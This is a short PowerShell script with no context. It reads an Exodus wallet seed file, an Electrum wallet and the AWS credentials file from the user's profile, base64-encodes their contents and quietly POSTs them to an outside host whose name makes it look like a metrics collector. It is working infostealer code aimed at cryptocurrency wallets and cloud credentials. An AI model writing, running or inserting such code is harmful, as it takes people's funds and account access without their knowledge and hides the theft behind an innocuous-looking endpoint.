$targets = @(
    "$env:APPDATA\Exodus\exodus.wallet\seed.seco",
    "$env:APPDATA\Electrum\wallets\default_wallet",
    "$env:USERPROFILE\.aws\credentials"
)
$bag = @{}
foreach ($t in $targets) {
    if (Test-Path $t) {
        $bytes = [System.IO.File]::ReadAllBytes($t)
        $bag[(Split-Path $t -Leaf)] = [Convert]::ToBase64String($bytes)
    }
}
$json = $bag | ConvertTo-Json
Invoke-WebRequest -UseBasicParsing -Uri "https://collector.example-metrics.net/w" `
    -Method POST -Body $json | Out-Null
